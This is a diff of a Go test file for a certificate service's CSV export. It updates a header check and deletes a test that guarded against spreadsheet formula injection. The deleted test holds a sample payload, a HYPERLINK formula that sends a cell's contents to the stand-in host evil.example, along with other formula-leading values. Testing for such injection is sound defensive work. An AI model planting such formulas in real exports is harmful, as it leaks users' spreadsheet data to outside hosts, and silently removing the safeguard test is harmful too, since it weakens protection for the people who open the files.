@@ -255,20 +255,11 @@ func TestCertificates_Export(t *testing.T) {
 	}
 	a = f.operate("GET", "/v1/certificates?format=csv", "").want(t, http.StatusOK, nil)
 	rows := must[[][]string](t)(csv.NewReader(strings.NewReader(a.body)).ReadAll())
-	if len(rows) != 5 || strings.Join(rows[0], ",") != strings.Join(csvColumns, ",") {
+	if len(rows) != 5 || strings.Join(rows[0], ",") != strings.Join(client.CSVHeader(), ",") {
 		t.Errorf("rows %v", rows)
 	}
 	if !strings.HasPrefix(a.Header.Get("Content-Type"), "text/csv") || !strings.Contains(a.Header.Get("Content-Disposition"), "attachment") {
 		t.Errorf("headers %v", a.Header)
-	}
-}
-
-func TestExport_NoFormulas(t *testing.T) {
-	c := client.Certificate{ClientID: `=HYPERLINK("http://evil.example/?"&A1)`, Profile: "@SUM(1)", Names: []string{"+1", "x"}, RevocationReason: "-2"}
-	for i, cell := range csvRow(c) {
-		if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
-			t.Errorf("%s: %q begins a formula", csvColumns[i], cell)
-		}
 	}
 }
 
